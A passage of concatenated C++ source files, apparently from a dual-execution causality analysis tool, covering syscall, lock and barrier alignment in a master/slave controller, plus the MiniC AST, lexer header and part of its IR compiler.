                ch.cntStack[peer()], ppos.cnt,
                ch.cntStack[self()], req.cnt);
            bool passed =
                pr == Progress::Passed ||
                (pr == Progress::Same &&
                 (ppos.site != req.site ||
                  ppos.kind == PosKind::Barrier));
            if (peer_gone || passed ||
                waitExpired(req.tid, opts_.stallTimeout)) {
                Finding f;
                f.kind = ppos.cnt == req.cnt && ppos.site != req.site &&
                         !peer_gone
                    ? CauseKind::SinkSiteMismatch
                    : CauseKind::SinkVanished;
                f.observer = opts_.side;
                f.tid = req.tid;
                f.site = req.site;
                f.cnt = req.cnt;
                f.sysNo = req.sysNo;
                f.loc = req.loc;
                (opts_.side == Side::Master ? f.masterValue
                                            : f.slaveValue) = payload;
                chan_.addFinding(std::move(f));
                chan_.syscallDiffs->inc();
                if (f.kind == CauseKind::SinkVanished)
                    chan_.sinkVanished->inc();
                else
                    chan_.sinkDiffs->inc();
                reported_divergence = true;
                mine.valid = false;
                proceed = true;
            }
        }
    }

    if (!proceed) {
        chan_.blockedPolls->inc();
        return vm::PortReply::Blocked;
    }

    trace(reported_divergence ? TraceEvent::Kind::SinkDiff
                              : TraceEvent::Kind::SinkAligned,
          req);

    // A misaligned or value-divergent sink leaves the two worlds'
    // copies of the resource different: taint it (§7).
    if (reported_divergence) {
        try {
            std::string key = vm.kernel().resourceKey(
                req.sysNo, req.args, vm.memory());
            if (!key.empty())
                chan_.taints.taint(key);
        } catch (const vm::VmTrap &) {
        }
    }
    LDX_TRACE_EVT("[%c] sink sys=%lld cnt=%lld site=%d -> proceed\n",
                  opts_.side == Side::Master ? 'M' : 'S',
                  (long long)req.sysNo, (long long)req.cnt, req.site);

    // Perform the syscall: real output in the master, suppressed in
    // the slave (its kernel journals outputs as suppressed).
    out = vm.kernel().execute(req.sysNo, req.args, vm.memory());
    if (opts_.side == Side::Slave)
        chan_.slaveSyscalls->inc();
    clearWait(req.tid);
    bumpProgress();
    return vm::PortReply::Done;
}

vm::PortReply
Controller::handleLock(const vm::SyscallRequest &req, vm::Machine &vm)
{
    (void)vm;
    ThreadChannel &ch = chan_.thread(req.tid);
    {
        std::lock_guard<std::mutex> lock(ch.mutex);
        ch.pos[self()] = {PosKind::Local, req.cnt, req.site, 0};
    }
    os::Sys sys = static_cast<os::Sys>(req.sysNo);
    if (!opts_.shareLockOrder || sys != os::Sys::MutexLock) {
        bumpProgress();
        return vm::PortReply::Done;
    }

    std::int64_t id = req.args.empty() ? 0 : req.args[0];
    std::string key = "mutex:" + std::to_string(id);
    if (chan_.taints.isTainted(key)) {
        bumpProgress();
        return vm::PortReply::Done;
    }

    std::lock_guard<std::mutex> lock(chan_.lockMutex);
    if (opts_.side == Side::Master) {
        // FIFO waiter semantics in the VM make approval order equal
        // acquisition order per mutex.
        chan_.lockOrder[id].push_back(req.tid);
        bumpProgress();
        return vm::PortReply::Done;
    }

    std::size_t idx = chan_.slaveLockIdx[id];
    auto &order = chan_.lockOrder[id];
    if (order.size() > idx) {
        if (order[idx] == req.tid) {
            chan_.slaveLockIdx[id] = idx + 1;
            chan_.lockPolls.erase({req.tid, id});
            chan_.lockShares->inc();
            bumpProgress();
            return vm::PortReply::Done;
        }
        // Order diverged: taint the lock, run decoupled from now on.
        chan_.taints.taint(key);
        chan_.slaveLockIdx[id] = idx + 1;
        chan_.syscallDiffs->inc();
        chan_.lockDiverged->inc();
        bumpProgress();
        return vm::PortReply::Done;
    }
    if (chan_.sideFinished(Side::Master)) {
        chan_.taints.taint(key);
        bumpProgress();
        return vm::PortReply::Done;
    }
    std::uint64_t &polls = chan_.lockPolls[{req.tid, id}];
    if (++polls > opts_.lockPollTimeout) {
        chan_.taints.taint(key);
        chan_.lockPolls.erase({req.tid, id});
        chan_.syscallDiffs->inc();
        chan_.lockDiverged->inc();
        bumpProgress();
        return vm::PortReply::Done;
    }
    chan_.blockedPolls->inc();
    return vm::PortReply::Blocked;
}

vm::PortReply
Controller::onBarrier(int tid, std::int64_t site, std::int64_t iter,
                      std::int64_t cnt, std::int64_t reset_delta,
                      vm::Machine &vm)
{
    (void)vm;
    ThreadChannel &ch = chan_.thread(tid);
    std::lock_guard<std::mutex> lock(ch.mutex);
    ch.pos[self()] = {PosKind::Barrier, cnt, static_cast<int>(site),
                      iter};

    auto pass = [&]() -> vm::PortReply {
        // Publish the post-reset position so the peer never mistakes
        // our stale latch-level counter for "moved past".
        LDX_TRACE_EVT("[%c] barrier site=%lld iter=%lld cnt=%lld pass\n",
                      opts_.side == Side::Master ? 'M' : 'S',
                      (long long)site, (long long)iter, (long long)cnt);
        ch.pos[self()] = {PosKind::Running, cnt + reset_delta, -1, 0};
        clearWait(tid);
        bumpProgress();
        return vm::PortReply::Done;
    };

    BarrierPair &bp = ch.barrier;
    if (bp.valid && bp.site == site && bp.iter == iter &&
        !bp.consumed[self()]) {
        bp.consumed[self()] = true;
        if (bp.consumed[0] && bp.consumed[1])
            bp.valid = false;
        return pass();
    }

    const Position &ppos = ch.pos[peer()];
    bool peer_gone = chan_.sideFinished(peerOf(opts_.side)) ||
                     ch.threadDone[peer()];
    if (peer_gone)
        return pass();

    if (ppos.kind == PosKind::Barrier && ppos.site == site &&
        ppos.iter == iter) {
        // Rendezvous: close the iteration window.
        ch.purgeQueue();
        bp.valid = true;
        bp.site = site;
        bp.iter = iter;
        bp.consumed[0] = false;
        bp.consumed[1] = false;
        bp.consumed[self()] = true;
        chan_.barrierPairings->inc();
        if (chan_.wantsEvents()) {
            TraceEvent evt;
            evt.kind = TraceEvent::Kind::BarrierPair;
            evt.side = opts_.side;
            evt.tid = tid;
            evt.cnt = cnt;
            evt.site = static_cast<int>(site);
            chan_.recordEvent(evt);
        }
        // The peer is about to pass too; publish its post-reset
        // position now. Otherwise its stale latch-level counter (the
        // highest value in the window) would make us believe it had
        // passed the low counter levels of the next iteration.
        ch.pos[peer()] = {PosKind::Running, cnt + reset_delta, -1, 0};
        return pass();
    }
    auto skip = [&]() -> vm::PortReply {
        chan_.barrierSkips->inc();
        if (chan_.wantsEvents()) {
            TraceEvent evt;
            evt.kind = TraceEvent::Kind::BarrierSkip;
            evt.side = opts_.side;
            evt.tid = tid;
            evt.cnt = cnt;
            evt.site = static_cast<int>(site);
            chan_.recordEvent(evt);
        }
        return pass();
    };
    Progress pr = compareProgress(ch.cntStack[peer()], ppos.cnt,
                                  ch.cntStack[self()], cnt);
    if (pr == Progress::Passed)
        return skip(); // peer moved past the loop
    if (ppos.kind == PosKind::Barrier && ppos.site == site &&
        ppos.iter > iter)
        return skip(); // peer is iterations ahead of us
    // Divergence at the same level: only when the peer is *also*
    // parked at a different barrier. A peer at a same-level syscall is
    // still inside this iteration window (its own rules let it move
    // past us), so we must keep waiting for its arrival here.
    if (ppos.kind == PosKind::Barrier && pr == Progress::Same &&
        ppos.site != static_cast<int>(site))
        return skip();
    if (waitExpired(tid, opts_.stallTimeout))
        return skip();
    chan_.blockedPolls->inc();
    return vm::PortReply::Blocked;
}

void
Controller::onCounterPush(int tid, std::int64_t saved, vm::Machine &vm)
{
    (void)vm;
    ThreadChannel &ch = chan_.thread(tid);
    std::lock_guard<std::mutex> lock(ch.mutex);
    ch.cntStack[self()].push_back(saved);
    ch.pos[self()] = {PosKind::Running, 0, -1, 0};
}

void
Controller::onCounterPop(int tid, std::int64_t restored, vm::Machine &vm)
{
    (void)vm;
    ThreadChannel &ch = chan_.thread(tid);
    std::lock_guard<std::mutex> lock(ch.mutex);
    if (!ch.cntStack[self()].empty())
        ch.cntStack[self()].pop_back();
    ch.pos[self()] = {PosKind::Running, restored, -1, 0};
}

void
Controller::onThreadDone(int tid, vm::Machine &vm)
{
    (void)vm;
    ThreadChannel &ch = chan_.thread(tid);
    std::lock_guard<std::mutex> lock(ch.mutex);
    ch.threadDone[self()] = true;
}

void
Controller::onFinished(vm::Machine &vm)
{
    (void)vm;
    chan_.finishSide(opts_.side);
}

} // namespace ldx::core
