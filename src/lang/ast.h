/**
 * @file
 * MiniC abstract syntax tree.
 */
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

namespace ldx::lang {

/** Value types. Arrays are declaration forms, not value types. */
enum class Type
{
    Int,     ///< 64-bit integer
    Char,    ///< byte (widened to 64-bit in registers)
    IntPtr,  ///< pointer to int (element size 8)
    CharPtr, ///< pointer to char (element size 1)
    FnPtr,   ///< function pointer ('fn')
};

/** Element size addressed through a value of type @p t. */
int elemSizeOf(Type t);

struct Expr;
using ExprPtr = std::unique_ptr<Expr>;

/** Expression node. */
struct Expr
{
    enum class Kind
    {
        Num,     ///< integer literal (value)
        Str,     ///< string literal (str)
        Var,     ///< identifier (name)
        Unary,   ///< op in {-, !, ~, *, &} applied to lhs
        Binary,  ///< op is a binary operator token id
        Call,    ///< name(args...) — user fn, builtin, or fn-ptr var
        Index,   ///< lhs[rhs]
    };

    Kind kind;
    int line = 0;

    std::int64_t value = 0;   // Num
    std::string str;          // Str
    std::string name;         // Var / Call
    int op = 0;               // Unary/Binary operator (Tok as int)
    ExprPtr lhs;              // Unary sub / Binary left / Index base
    ExprPtr rhs;              // Binary right / Index subscript
    std::vector<ExprPtr> args; // Call
};

struct Stmt;
using StmtPtr = std::unique_ptr<Stmt>;

/** Local or global variable declaration. */
struct VarDecl
{
    Type type = Type::Int;
    std::string name;
    bool isArray = false;
    std::int64_t arraySize = 0;
    ExprPtr init;            ///< optional scalar initializer
    std::string strInit;     ///< char-array string initializer
    bool hasStrInit = false;
    int line = 0;
};

/** Statement node. */
struct Stmt
{
    enum class Kind
    {
        Block, Decl, Assign, If, While, DoWhile, For,
        Break, Continue, Return, ExprStmt,
    };

    Kind kind;
    int line = 0;

    std::vector<StmtPtr> body;   // Block
    VarDecl decl;                // Decl
    ExprPtr lhs;                 // Assign target (lvalue)
    ExprPtr expr;                // Assign rhs / If-While cond / Return /
                                 // ExprStmt
    StmtPtr thenStmt;            // If then / loop body
    StmtPtr elseStmt;            // If else
    StmtPtr forInit;             // For
    StmtPtr forStep;             // For
};

/** Function definition. */
struct FuncDecl
{
    std::string name;
    std::vector<VarDecl> params; ///< scalars only
    StmtPtr body;                ///< Block
    int line = 0;
};

/** A parsed translation unit. */
struct Program
{
    std::vector<VarDecl> globals;
    std::vector<FuncDecl> functions;
};

} // namespace ldx::lang
