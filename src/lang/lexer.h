/**
 * @file
 * MiniC lexer. MiniC is the C-like source language the workload
 * corpus is written in; it exercises every control construct the
 * paper's instrumentation handles (loops, recursion, function
 * pointers, threads).
 */
#pragma once

#include <cstdint>
#include <string>
#include <vector>

namespace ldx::lang {

/** Token kinds. */
enum class Tok
{
    End,
    // Literals and names.
    Ident, Number, String, CharLit,
    // Keywords.
    KwInt, KwChar, KwFn, KwIf, KwElse, KwWhile, KwFor, KwDo,
    KwBreak, KwContinue, KwReturn,
    // Punctuation.
    LParen, RParen, LBrace, RBrace, LBracket, RBracket,
    Comma, Semi,
    // Operators.
    Assign,                     // =
    Plus, Minus, Star, Slash, Percent,
    Amp, Pipe, Caret, Tilde, Bang,
    Shl, Shr,
    AndAnd, OrOr,
    Eq, Ne, Lt, Le, Gt, Ge,
};

/** A lexed token. */
struct Token
{
    Tok kind = Tok::End;
    std::string text;        ///< identifier / raw literal text
    std::int64_t value = 0;  ///< Number / CharLit value
    std::string str;         ///< decoded String contents
    int line = 0;
    int col = 0;
};

/** Name of a token kind (diagnostics). */
const char *tokName(Tok kind);

/**
 * Lex @p source into tokens (trailing End token included).
 * @throws ldx::FatalError with line/column info on bad input.
 */
std::vector<Token> lex(const std::string &source);

} // namespace ldx::lang
