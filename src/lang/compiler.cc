#include "lang/compiler.h"

#include <map>
#include <optional>
#include <set>
#include <vector>

#include "ir/builder.h"
#include "ir/verifier.h"
#include "lang/lexer.h"
#include "lang/parser.h"
#include "os/sysno.h"
#include "support/diag.h"

namespace ldx::lang {

namespace {

using ir::Opcode;
using ir::Operand;

/** Builtin classification. */
struct Builtin
{
    enum class Kind { Syscall, Lib, Puts, Printi, IMalloc };
    Kind kind;
    std::int64_t id = 0; ///< syscall number or LibRoutine
    int numArgs = 0;
    Type retType = Type::Int;
};

const std::map<std::string, Builtin> &
builtins()
{
    using os::Sys;
    using ir::LibRoutine;
    auto sys = [](Sys s, int n, Type rt = Type::Int) {
        return Builtin{Builtin::Kind::Syscall,
                       static_cast<std::int64_t>(s), n, rt};
    };
    auto lib = [](LibRoutine r, int n, Type rt = Type::Int) {
        return Builtin{Builtin::Kind::Lib,
                       static_cast<std::int64_t>(r), n, rt};
    };
    static const std::map<std::string, Builtin> table = {
        {"open", sys(Sys::Open, 2)},
        {"read", sys(Sys::Read, 3)},
        {"write", sys(Sys::Write, 3)},
        {"close", sys(Sys::Close, 1)},
        {"lseek", sys(Sys::Lseek, 3)},
        {"socket", sys(Sys::Socket, 0)},
        {"connect", sys(Sys::Connect, 2)},
        {"send", sys(Sys::Send, 3)},
        {"recv", sys(Sys::Recv, 3)},
        {"listen", sys(Sys::Listen, 2)},
        {"accept", sys(Sys::Accept, 1)},
        {"mkdir", sys(Sys::Mkdir, 1)},
        {"rmdir", sys(Sys::Rmdir, 1)},
        {"unlink", sys(Sys::Unlink, 1)},
        {"rename", sys(Sys::Rename, 2)},
        {"stat", sys(Sys::Stat, 2)},
        {"time", sys(Sys::Time, 0)},
        {"rdtsc", sys(Sys::Rdtsc, 0)},
        {"random", sys(Sys::Random, 0)},
        {"getpid", sys(Sys::GetPid, 0)},
        {"getenv", sys(Sys::GetEnv, 3)},
        {"print", sys(Sys::Print, 2)},
        {"exit", sys(Sys::Exit, 1)},
        {"spawn", sys(Sys::ThreadCreate, 2)},
        {"join", sys(Sys::ThreadJoin, 1)},
        {"lock", sys(Sys::MutexLock, 1)},
        {"unlock", sys(Sys::MutexUnlock, 1)},
        {"yield", sys(Sys::Yield, 0)},
        {"memcpy", lib(LibRoutine::Memcpy, 3, Type::CharPtr)},
        {"memset", lib(LibRoutine::Memset, 3, Type::CharPtr)},
        {"strlen", lib(LibRoutine::Strlen, 1)},
        {"strcmp", lib(LibRoutine::Strcmp, 2)},
        {"strcpy", lib(LibRoutine::Strcpy, 2, Type::CharPtr)},
        {"strcat", lib(LibRoutine::Strcat, 2, Type::CharPtr)},
        {"atoi", lib(LibRoutine::Atoi, 1)},
        {"itoa", lib(LibRoutine::Itoa, 2, Type::CharPtr)},
        {"malloc", lib(LibRoutine::Malloc, 1, Type::CharPtr)},
        {"free", lib(LibRoutine::Free, 1)},
        {"puts", {Builtin::Kind::Puts, 0, 1, Type::Int}},
        {"printi", {Builtin::Kind::Printi, 0, 1, Type::Int}},
        {"imalloc", {Builtin::Kind::IMalloc, 0, 1, Type::IntPtr}},
    };
    return table;
}

/** A value with the type info codegen needs for scaling/width. */
struct TypedVal
{
    Operand op;
    Type type = Type::Int;
};

/** Where a local variable lives. */
struct LocalSlot
{
    Type type = Type::Int;
    bool inMemory = false;
    int reg = -1;      ///< value register, or address register if
                       ///< inMemory
    bool isArray = false;
};

[[noreturn]] void
semaError(int line, const std::string &msg)
{
    fatal("error at line " + std::to_string(line) + ": " + msg);
}

/** Is @p t a pointer-ish type (scaled arithmetic / typed loads)? */
bool
isPtr(Type t)
{
    return t == Type::IntPtr || t == Type::CharPtr;
}

/** Element type addressed through @p t. */
Type
pointee(Type t)
{
    return t == Type::CharPtr ? Type::Char : Type::Int;
}

/** Pointer type to @p t. */
Type
ptrTo(Type t)
{
    return t == Type::Char ? Type::CharPtr : Type::IntPtr;
}

/** Per-program code generator. */
class Codegen
{
  public:
    explicit Codegen(const Program &prog)
        : prog_(prog), module_(std::make_unique<ir::Module>())
    {}

    std::unique_ptr<ir::Module>
    run()
    {
        declareGlobals();
        declareFunctions();
        for (const FuncDecl &fn : prog_.functions)
            genFunction(fn);
        return std::move(module_);
    }

  private:
    // ---------------------------------------------------------- setup
    void
    declareGlobals()
    {
        for (const VarDecl &g : prog_.globals) {
            std::int64_t size;
            std::string init;
            if (g.isArray) {
                size = g.arraySize * elemSizeOf(g.type);
                if (g.hasStrInit)
                    init = g.strInit + '\0';
            } else {
                size = 8;
                if (g.init) {
                    std::int64_t v = constEval(*g.init);
                    init.assign(8, '\0');
                    for (int i = 0; i < 8; ++i)
                        init[static_cast<std::size_t>(i)] =
                            static_cast<char>((v >> (8 * i)) & 0xff);
                }
            }
            if (globalVars_.count(g.name))
                semaError(g.line, "duplicate global '" + g.name + "'");
            int id = module_->addGlobal(g.name, size, init);
            globalVars_[g.name] = {id, g.type, g.isArray};
        }
    }

    void
    declareFunctions()
    {
        for (const FuncDecl &fn : prog_.functions) {
            if (module_->findFunction(fn.name) ||
                builtins().count(fn.name))
                semaError(fn.line, "duplicate function '" + fn.name + "'");
            module_->addFunction(fn.name,
                                 static_cast<int>(fn.params.size()));
        }
    }

    std::int64_t
    constEval(const Expr &e)
    {
        if (e.kind == Expr::Kind::Num)
            return e.value;
        if (e.kind == Expr::Kind::Unary &&
            e.op == static_cast<int>(Tok::Minus))
            return -constEval(*e.lhs);
        semaError(e.line, "global initializer must be constant");
    }

    // ----------------------------------------------- address-taken set
    void
    collectAddrTaken(const Expr &e, std::set<std::string> &out)
    {
        if (e.kind == Expr::Kind::Unary &&
            e.op == static_cast<int>(Tok::Amp) &&
            e.lhs->kind == Expr::Kind::Var &&
            !module_->findFunction(e.lhs->name)) {
            out.insert(e.lhs->name);
        }
        if (e.lhs)
            collectAddrTaken(*e.lhs, out);
        if (e.rhs)
            collectAddrTaken(*e.rhs, out);
        for (const ExprPtr &a : e.args)
            collectAddrTaken(*a, out);
    }

    void
    collectAddrTaken(const Stmt &s, std::set<std::string> &out)
    {
        if (s.lhs)
            collectAddrTaken(*s.lhs, out);
        if (s.expr)
            collectAddrTaken(*s.expr, out);
        if (s.decl.init)
            collectAddrTaken(*s.decl.init, out);
        for (const StmtPtr &b : s.body)
            collectAddrTaken(*b, out);
        if (s.thenStmt)
            collectAddrTaken(*s.thenStmt, out);
        if (s.elseStmt)
            collectAddrTaken(*s.elseStmt, out);
        if (s.forInit)
            collectAddrTaken(*s.forInit, out);
        if (s.forStep)
            collectAddrTaken(*s.forStep, out);
    }

    /** Hoist allocas for array/addr-taken decls into the entry block. */
    void
    hoistAllocas(const Stmt &s)
    {
        if (s.kind == Stmt::Kind::Decl) {
            const VarDecl &d = s.decl;
            bool mem = d.isArray || addrTaken_.count(d.name) > 0;
            if (mem) {
                std::int64_t bytes = d.isArray
                    ? d.arraySize * elemSizeOf(d.type)
                    : 8;
                declSlots_[&s] = b_->emitAlloca(bytes);
            }
        }
        for (const StmtPtr &b : s.body)
            hoistAllocas(*b);
        if (s.thenStmt)
            hoistAllocas(*s.thenStmt);
        if (s.elseStmt)
            hoistAllocas(*s.elseStmt);
        if (s.forInit)
            hoistAllocas(*s.forInit);
        if (s.forStep)
            hoistAllocas(*s.forStep);
    }

    // ------------------------------------------------------- function
    void
    genFunction(const FuncDecl &decl)
    {
        fn_ = module_->findFunction(decl.name);
        ir::Function &fn = *fn_;
        fn.newBlock(); // entry (id 0)
        ir::IRBuilder builder(fn);
        b_ = &builder;
        b_->setBlock(ir::Function::entryBlockId);
        b_->setLoc({decl.line, 0});

        addrTaken_.clear();
        declSlots_.clear();
        scopes_.clear();
        scopes_.emplace_back();
        collectAddrTaken(*decl.body, addrTaken_);

        // Return plumbing: single exit block.
        retReg_ = fn.newReg();
        b_->emitMoveTo(retReg_, Operand::makeImm(0));

        // Parameters: registers r0..; spill the address-taken ones.
        for (std::size_t i = 0; i < decl.params.size(); ++i) {
            const VarDecl &p = decl.params[i];
            LocalSlot slot;
            slot.type = p.type;
            if (addrTaken_.count(p.name)) {
                slot.inMemory = true;
                int addr = b_->emitAlloca(8);
                b_->emitStore(Operand::makeReg(addr),
                              Operand::makeReg(static_cast<int>(i)), 8);
                slot.reg = addr;
            } else {
                slot.reg = static_cast<int>(i);
            }
            defineLocal(p.name, slot, p.line);
        }

        hoistAllocas(*decl.body);

        exitBlock_ = static_cast<int>(fn.numBlocks());
        fn.newBlock();

        loopStack_.clear();
        genStmt(*decl.body);

        if (!fn.block(b_->currentBlock()).isTerminated())
            b_->emitBr(exitBlock_);

        b_->setBlock(exitBlock_);
        b_->emitRet(Operand::makeReg(retReg_));

        // Terminate any dead blocks left open by unreachable joins.
        for (std::size_t i = 0; i < fn.numBlocks(); ++i) {
            ir::BasicBlock &bb = fn.block(static_cast<int>(i));
            if (!bb.isTerminated()) {
                b_->setBlock(static_cast<int>(i));
                b_->emitBr(exitBlock_);
            }
        }
        b_ = nullptr;
        fn_ = nullptr;
    }

    // --------------------------------------------------------- scopes
    void
    defineLocal(const std::string &name, LocalSlot slot, int line)
    {
        auto &scope = scopes_.back();
        if (scope.count(name))
            semaError(line, "redeclaration of '" + name + "'");
        scope[name] = slot;
    }

    const LocalSlot *
    findLocal(const std::string &name) const
    {
        for (auto it = scopes_.rbegin(); it != scopes_.rend(); ++it) {
            auto f = it->find(name);
            if (f != it->end())
                return &f->second;
        }
        return nullptr;
    }

    // ----------------------------------------------------- statements
    bool
    terminated() const
    {
        return fn_->block(b_->currentBlock()).isTerminated();
    }

    void
    genStmt(const Stmt &s)
    {
        if (terminated())
            return; // dead code after return/break/continue
        b_->setLoc({s.line, 0});
        switch (s.kind) {
          case Stmt::Kind::Block: {
            scopes_.emplace_back();
            for (const StmtPtr &sub : s.body) {
                if (terminated())
                    break;
                genStmt(*sub);
            }
            scopes_.pop_back();
            break;
          }
          case Stmt::Kind::Decl:
            genDecl(s);
            break;
          case Stmt::Kind::Assign:
            genAssign(*s.lhs, *s.expr);
            break;
          case Stmt::Kind::ExprStmt:
            genExpr(*s.expr);
            break;
          case Stmt::Kind::Return: {
            if (s.expr) {
                TypedVal v = genExpr(*s.expr);
                b_->emitMoveTo(retReg_, v.op);
            }
            b_->emitBr(exitBlock_);
            break;
          }
          case Stmt::Kind::If:
            genIf(s);
            break;
          case Stmt::Kind::While:
            genWhile(s);
            break;
          case Stmt::Kind::DoWhile:
            genDoWhile(s);
            break;
          case Stmt::Kind::For:
            genFor(s);
            break;
          case Stmt::Kind::Break:
            if (loopStack_.empty())
                semaError(s.line, "'break' outside a loop");
            b_->emitBr(loopStack_.back().exitBlock);
            break;
          case Stmt::Kind::Continue:
            if (loopStack_.empty())
                semaError(s.line, "'continue' outside a loop");
            b_->emitBr(loopStack_.back().latchBlock);
            break;
        }
    }

    void
    genDecl(const Stmt &s)
    {
        const VarDecl &d = s.decl;
        auto slot_it = declSlots_.find(&s);
        LocalSlot slot;
        slot.type = d.type;
        slot.isArray = d.isArray;
        if (slot_it != declSlots_.end()) {
            slot.inMemory = true;
            slot.reg = slot_it->second;
            if (d.isArray && d.hasStrInit) {
                // Copy the string literal into the stack array.
                int src = internString(d.strInit);
                b_->emitLibCall(ir::LibRoutine::Strcpy,
                                {Operand::makeReg(slot.reg),
                                 Operand::makeReg(src)});
            } else if (!d.isArray && d.init) {
                TypedVal v = genExpr(*d.init);
                b_->emitStore(Operand::makeReg(slot.reg), v.op, 8);
            }
        } else {
            TypedVal v = d.init ? genExpr(*d.init)
                                : TypedVal{Operand::makeImm(0), d.type};
            int reg = fn_->newReg();
            b_->emitMoveTo(reg, v.op);
            slot.reg = reg;
        }
        defineLocal(d.name, slot, d.line);
    }

    void
    genAssign(const Expr &lhs, const Expr &rhs)
    {
        // Register-resident scalar?
        if (lhs.kind == Expr::Kind::Var) {
            const LocalSlot *slot = findLocal(lhs.name);
            if (slot && !slot->inMemory) {
                TypedVal v = genExpr(rhs);
                b_->emitMoveTo(slot->reg, v.op);
                return;
            }
        }
        auto [addr, elem] = genAddr(lhs);
        TypedVal v = genExpr(rhs);
        b_->emitStore(addr, v.op, elemSizeOf(elem));
    }

    void
    genIf(const Stmt &s)
    {
        int then_bb = newBlock();
        int else_bb = s.elseStmt ? newBlock() : -1;
        int join_bb = newBlock();
        genCondBr(*s.expr, then_bb, s.elseStmt ? else_bb : join_bb);

        b_->setBlock(then_bb);
        genStmt(*s.thenStmt);
        if (!terminated())
            b_->emitBr(join_bb);

        if (s.elseStmt) {
            b_->setBlock(else_bb);
            genStmt(*s.elseStmt);
            if (!terminated())
                b_->emitBr(join_bb);
        }
        b_->setBlock(join_bb);
    }

    void
    genWhile(const Stmt &s)
    {
        int cond_bb = newBlock();
        int body_bb = newBlock();
        int latch_bb = newBlock();
        int exit_bb = newBlock();

        b_->emitBr(cond_bb);
        b_->setBlock(cond_bb);
        genCondBr(*s.expr, body_bb, exit_bb);

        loopStack_.push_back({latch_bb, exit_bb});
        b_->setBlock(body_bb);
        genStmt(*s.thenStmt);
        if (!terminated())
            b_->emitBr(latch_bb);
        loopStack_.pop_back();

        b_->setBlock(latch_bb);
        b_->emitBr(cond_bb); // the back edge

        b_->setBlock(exit_bb);
    }

    void
    genDoWhile(const Stmt &s)
    {
        int body_bb = newBlock();
        int latch_bb = newBlock();
        int exit_bb = newBlock();

        b_->emitBr(body_bb);
        loopStack_.push_back({latch_bb, exit_bb});
        b_->setBlock(body_bb);
        genStmt(*s.thenStmt);
        if (!terminated())
            b_->emitBr(latch_bb);
        loopStack_.pop_back();

        b_->setBlock(latch_bb);
        genCondBr(*s.expr, body_bb, exit_bb); // back edge on true

        b_->setBlock(exit_bb);
    }

    void
    genFor(const Stmt &s)
    {
        scopes_.emplace_back(); // init declarations scope
        if (s.forInit)
            genStmt(*s.forInit);

        int cond_bb = newBlock();
        int body_bb = newBlock();
        int latch_bb = newBlock();
        int exit_bb = newBlock();

        b_->emitBr(cond_bb);
        b_->setBlock(cond_bb);
        if (s.expr)
            genCondBr(*s.expr, body_bb, exit_bb);
        else
            b_->emitBr(body_bb);

        loopStack_.push_back({latch_bb, exit_bb});
        b_->setBlock(body_bb);
        genStmt(*s.thenStmt);
        if (!terminated())
            b_->emitBr(latch_bb);
        loopStack_.pop_back();

        b_->setBlock(latch_bb);
        if (s.forStep)
            genStmt(*s.forStep);
        b_->emitBr(cond_bb); // the back edge

        b_->setBlock(exit_bb);
        scopes_.pop_back();
    }

    // ---------------------------------------------------- expressions
    int
    newBlock()
    {
        return fn_->newBlock().id();
    }

    /** Emit a conditional branch on @p e (with && / || short circuit). */
    void
    genCondBr(const Expr &e, int true_bb, int false_bb)
    {
        if (e.kind == Expr::Kind::Binary) {
            Tok op = static_cast<Tok>(e.op);
            if (op == Tok::AndAnd) {
                int mid = newBlock();
                genCondBr(*e.lhs, mid, false_bb);
                b_->setBlock(mid);
                genCondBr(*e.rhs, true_bb, false_bb);
                return;
            }
            if (op == Tok::OrOr) {
                int mid = newBlock();
                genCondBr(*e.lhs, true_bb, mid);
                b_->setBlock(mid);
                genCondBr(*e.rhs, true_bb, false_bb);
                return;
            }
        }
        if (e.kind == Expr::Kind::Unary &&
            e.op == static_cast<int>(Tok::Bang)) {
            genCondBr(*e.lhs, false_bb, true_bb);
            return;
        }
        TypedVal v = genExpr(e);
        b_->emitCondBr(v.op, true_bb, false_bb);
    }

    /** Intern a string literal; returns a register with its address. */
    int
    internString(const std::string &s)
    {
        auto it = strings_.find(s);
        int gid;
        if (it != strings_.end()) {
            gid = it->second;
        } else {
            gid = module_->addGlobal(
                "str." + std::to_string(strings_.size()),
                static_cast<std::int64_t>(s.size()) + 1, s + '\0');
            strings_[s] = gid;
        }
        return b_->emitGlobalAddr(gid);
    }

    /** Compute the address of an lvalue; returns (addr, elem type). */
    std::pair<Operand, Type>
    genAddr(const Expr &e)
    {
        switch (e.kind) {
          case Expr::Kind::Var: {
            const LocalSlot *slot = findLocal(e.name);
            if (slot) {
                if (!slot->inMemory)
                    semaError(e.line, "cannot take the address of "
                                      "register variable '" + e.name +
                                      "' here");
                Type elem = slot->isArray ? slot->type : slot->type;
                return {Operand::makeReg(slot->reg), elem};
            }
            auto git = globalVars_.find(e.name);
            if (git != globalVars_.end()) {
                int addr = b_->emitGlobalAddr(git->second.id);
                return {Operand::makeReg(addr), git->second.type};
            }
            semaError(e.line, "unknown variable '" + e.name + "'");
          }
          case Expr::Kind::Index: {
            TypedVal base = genExpr(*e.lhs);
            TypedVal idx = genExpr(*e.rhs);
            Type elem = isPtr(base.type) ? pointee(base.type) : Type::Int;
            Operand off = idx.op;
            int scale = elemSizeOf(elem);
            if (scale != 1) {
                off = Operand::makeReg(
                    b_->emitBinary(Opcode::Mul, idx.op,
                                   Operand::makeImm(scale)));
            }
            int addr = b_->emitBinary(Opcode::Add, base.op, off);
            return {Operand::makeReg(addr), elem};
          }
          case Expr::Kind::Unary:
            if (e.op == static_cast<int>(Tok::Star)) {
                TypedVal p = genExpr(*e.lhs);
                Type elem = isPtr(p.type) ? pointee(p.type) : Type::Int;
                return {p.op, elem};
            }
            semaError(e.line, "expression is not an lvalue");
          default:
            semaError(e.line, "expression is not an lvalue");
        }
    }

    TypedVal
    genExpr(const Expr &e)
    {
        b_->setLoc({e.line, 0});
        switch (e.kind) {
          case Expr::Kind::Num:
            return {Operand::makeImm(e.value), Type::Int};
          case Expr::Kind::Str:
            return {Operand::makeReg(internString(e.str)),
                    Type::CharPtr};
          case Expr::Kind::Var:
            return genVar(e);
          case Expr::Kind::Unary:
            return genUnary(e);
          case Expr::Kind::Binary:
            return genBinary(e);
          case Expr::Kind::Call:
            return genCall(e);
          case Expr::Kind::Index: {
            auto [addr, elem] = genAddr(e);
            int v = b_->emitLoad(addr, elemSizeOf(elem));
            return {Operand::makeReg(v), elem};
          }
        }
        panic("unhandled expression kind");
    }

    TypedVal
    genVar(const Expr &e)
    {
        const LocalSlot *slot = findLocal(e.name);
        if (slot) {
            if (slot->isArray) // array decays to pointer
                return {Operand::makeReg(slot->reg), ptrTo(slot->type)};
            if (slot->inMemory) {
                int v = b_->emitLoad(Operand::makeReg(slot->reg), 8);
